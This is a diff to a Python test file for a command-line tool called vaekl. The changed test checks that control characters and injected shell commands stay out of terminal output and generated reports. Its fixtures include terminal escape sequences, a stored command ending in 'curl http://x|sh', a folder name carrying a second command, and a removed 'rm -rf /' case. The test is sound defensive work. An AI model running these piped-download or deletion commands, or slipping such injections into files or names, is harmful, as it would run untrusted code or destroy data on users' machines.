@@ -3,7 +3,6 @@
 import json
 import os
 import re
-import shlex
 import shutil
 import subprocess
 import sys
@@ -191,7 +190,7 @@ def test_nothing_is_written_through_a_link(verb, link, run, tmp_path):
 
 
 def test_control_characters_do_not_reach_the_terminal(run, tmp_path):
-    """They clear the screen, name the window, fill the clipboard; and a command to be pasted is one command."""
+    """They clear the screen, name the window, fill the clipboard; and no command to be pasted is a stranger's."""
     folder = shutil.copytree(run, tmp_path / "run")
     file = folder / "facts.json"
     facts = json.loads(file.read_text())
@@ -199,14 +198,19 @@ def test_control_characters_do_not_reach_the_terminal(run, tmp_path):
     facts["likelihood"]["name"] = "\x1b]0;pwn\x07\x1b[31mX\x9b"
     file.write_text(json.dumps(facts))
     refused(vaekl(tmp_path, "audit", "run"), "facts.json", "control characters")
-    facts["likelihood"]["name"], facts["command"] = "cb", "vaekl train x; curl http://x|sh"
+    facts["likelihood"]["name"], facts["command"] = "cb", "vaekl train hydra.run.dir=/home x; curl http://x|sh"
     file.write_text(json.dumps(facts))
-    pasted = next(line for line in vaekl(tmp_path, "audit", "run").out.splitlines() if "curl" in line)
-    assert shlex.split(pasted.partition("train it")[2])[-1] == "http://x|sh" and "'http://x|sh'" in pasted
-    facts["command"] = "rm -rf /"
-    file.write_text(json.dumps(facts))
-    answer = vaekl(tmp_path, "audit", "run")
-    assert answer.code == 0 and "rm -rf" not in answer.out
+    evil = folder.rename(tmp_path / "x; curl http:||x")
+    card = vaekl(tmp_path, "audit", evil.name)
+    page = vaekl(tmp_path, "report", evil.name, "report.pictures=0", "report.measure=false")
+    assert (card.code, page.code) == (0, 0), card.err + page.err
+    report = {name: (evil / "report" / name).read_text() for name in ("report.html", "report.md", "runs.csv")}
+    for text in (card.out, *report.values()):
+        assert "/home" not in text and "|sh" not in text and "vaekl train" in text
+    (evil / "results.json").unlink()
+    (evil / "last.pt").unlink()
+    sentence = refused(vaekl(tmp_path, "eval", evil.name), "has no last.pt")
+    assert "`vaekl resume 'x; curl http:||x'`" in sentence
 
 
 def test_a_report_obeys_no_matplotlibrc_of_a_stranger(run, tmp_path):
